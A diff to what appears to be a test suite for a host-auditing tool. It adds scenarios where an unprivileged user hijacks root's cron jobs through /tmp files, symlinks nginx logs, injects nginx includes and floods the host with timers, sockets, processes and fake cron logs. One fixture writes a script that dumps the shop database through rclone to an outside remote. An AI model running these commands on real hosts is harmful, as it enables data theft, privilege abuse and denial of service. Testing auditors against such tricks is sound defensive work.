@@ -783,6 +783,124 @@ PYTHON
     ),
 )
 
+# What a host's owner did in good faith, and what a stranger makes of it.
+
+_NGINX_OK = "nginx -t 2> /dev/null && systemctl reload nginx"
+OPENINGS = (
+    Attack(
+        "openings",
+        "log-link",
+        "nginx logs into a folder of the stranger's, who puts a link to a file that is not there",
+        "rm -f ~/logs/access.log; ln -s $proof/$attack.made ~/logs/access.log",
+        given=f"""
+        install -d -o stranger {HOME}/logs
+        echo 'access_log {HOME}/logs/access.log;' > /etc/nginx/conf.d/stranger.conf; {_NGINX_OK}
+        """,
+        may={probe: frozenset({"unknown"}) for probe in ADMIN},
+        undo=f"rm -f /etc/nginx/conf.d/stranger.conf; {_NGINX_OK}",
+        alone=True,
+    ),
+    Attack(
+        "openings",
+        "quoted-include",
+        "nginx includes, by a directive in quotes, what lies in a folder of the stranger's",
+        "echo 'error_log $proof/$attack.log;' | sed \"s|.proof/.attack|$proof/$attack|\" > ~/inc/a.conf",
+        given=f"""
+        install -d -o stranger {HOME}/inc
+        echo '"include" {HOME}/inc/*.conf;' > /etc/nginx/conf.d/stranger.conf; {_NGINX_OK}
+        """,
+        may={probe: frozenset({"unknown"}) for probe in ADMIN},
+        undo=f"rm -f /etc/nginx/conf.d/stranger.conf; {_NGINX_OK}",
+        alone=True,
+    ),
+    Attack(
+        "openings",
+        "lock-script",
+        "root's job names a file in /tmp that is not there; the stranger makes it a script that dumps",
+        """
+        printf '#!/bin/sh\npg_dump shop | rclone copy - off:site\n' > /tmp/nightly.lock
+        """,
+        given="""
+        echo '15 3 * * * root flock -n /tmp/nightly.lock true' > /etc/cron.d/nightly
+        """,
+        sees=BACKUPS,
+        undo="rm -f /etc/cron.d/nightly",
+        alone=True,
+    ),
+    Attack(
+        "openings",
+        "staging",
+        "root's job dumps into a folder in /tmp, and takes it away; the stranger makes it, with dumps",
+        _ROSY_SQL + "mkdir -m 755 /tmp/shop-dumps; sql > /tmp/shop-dumps/shop.sql",
+        given="""
+        [ -d /root/kept.dumps ] || mv /var/backups/shop /root/kept.dumps
+        printf '#!/bin/sh\nmkdir -p /tmp/shop-dumps && pg_dump shop > /tmp/shop-dumps/shop.sql\n' > /usr/local/sbin/night
+        chmod 755 /usr/local/sbin/night; echo '15 3 * * * root /usr/local/sbin/night' > /etc/cron.d/night
+        """,
+        sees=BACKUPS,
+        undo="rm -f /etc/cron.d/night /usr/local/sbin/night; mv /root/kept.dumps /var/backups/shop",
+        alone=True,
+    ),
+)
+
+# Floods
+
+FLOODS = (
+    Attack(
+        "floods",
+        "timers",
+        "30,000 timers of the stranger's own",
+        "mkdir -p ~/.config/systemd/user; cd ~/.config/systemd/user; seq -f a%g.timer 30000 | xargs touch",
+        sees=BACKUPS,
+        alone=True,
+    ),
+    Attack(
+        "floods",
+        "sockets",
+        "9000 listening sockets",
+        r"""
+        cat > many.py << 'PYTHON'
+import resource, socket, time
+resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
+held = []
+try:
+    for n in range(9000):
+        one = socket.socket()
+        one.bind((f"127.1.{n // 250}.{n % 250 + 1}", 7777))
+        one.listen()
+        held.append(one)
+except OSError:
+    pass
+open("ready", "w").write(str(len(held)))
+time.sleep(900)
+PYTHON
+        hold python3 many.py; for i in $(seq 100); do [ -e ready ] && break; sleep 0.1; done
+        """,
+        sees=(*NETWORK, "network.only-expected"),
+        alone=True,
+    ),
+    Attack(
+        "floods",
+        "processes-in-project",
+        "3000 processes in the project's directory",
+        "cd /srv/shop; for i in $(seq 3000); do sleep 900 > /dev/null 2>&1 < /dev/null & done",
+        sees=RUNNING,
+        alone=True,
+    ),
+    Attack(
+        "floods",
+        "cron-lines",
+        "5200 messages of cron's about the stranger's own jobs",
+        "",
+        given="""
+        for i in $(seq 5200); do echo "(stranger) CMD (true $i)"; done | systemd-cat --identifier=CRON
+        sleep 2
+        """,
+        sees=BACKUPS,
+        alone=True,
+    ),
+)
+
 # A repository that the stranger may write
 
 _FOUND = {"env.git": frozenset({"fail", "unknown"})}
@@ -1094,7 +1212,7 @@ OWN_PROJECT = Attack(
     """,
 )
 
-ATTACKS = (*PROCESSES, *FILES, *JOBS, *ENVIRONMENT, *REPOSITORY, *CONTAINERS)
+ATTACKS = (*PROCESSES, *FILES, *JOBS, *OPENINGS, *FLOODS, *ENVIRONMENT, *REPOSITORY, *CONTAINERS)
 
 
 def settle(host: Host) -> None:
